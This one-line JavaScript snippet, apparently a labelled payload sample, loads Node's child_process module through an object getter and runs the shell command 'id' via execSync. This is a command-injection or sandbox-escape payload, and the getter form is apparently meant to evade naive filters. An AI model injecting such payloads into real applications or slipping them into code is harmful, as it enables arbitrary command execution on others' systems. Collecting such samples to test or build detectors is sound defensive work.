({ get m() { return require('child_process'); } }).m.execSync('id');  //!shell
